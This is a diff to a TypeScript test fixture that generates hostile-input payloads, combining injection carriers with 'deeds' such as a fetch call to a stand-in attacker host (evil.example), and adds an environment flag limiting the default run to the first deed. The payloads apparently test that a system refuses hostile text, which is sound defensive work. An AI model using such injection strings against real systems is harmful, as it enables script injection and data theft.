@@ -191,12 +191,16 @@ const DEEDS: readonly ((number: number) => string)[] = [
   (number) => `fetch("//evil.example/${number}")`,
 ];
 
-/** Every way in with every deed; no two are alike, and each fits where an id fits. */
-export const PAYLOADS: readonly string[] = DEEDS.flatMap((codeOf, deed) =>
-  CARRIERS.map((carrier, index) => {
-    const number = deed * CARRIERS.length + index + 1;
-    return carrier({ number, code: codeOf(number), url: `https://evil.example/${number}` });
-  }),
+/** Whether this is the long form, which `npm run proof -- hostile-text` runs. */
+export const IS_WHOLE = process.env.TROVELLA_PROOF === "hostile-text";
+
+/** Every way in with every deed, in the short form with the first; no two are alike, and each fits where an id fits. */
+export const PAYLOADS: readonly string[] = DEEDS.slice(0, IS_WHOLE ? 3 : 1).flatMap(
+  (codeOf, deed) =>
+    CARRIERS.map((carrier, index) => {
+      const number = deed * CARRIERS.length + index + 1;
+      return carrier({ number, code: codeOf(number), url: `https://evil.example/${number}` });
+    }),
 );
 
 /** No text at all for PostgreSQL: these must be refused. */
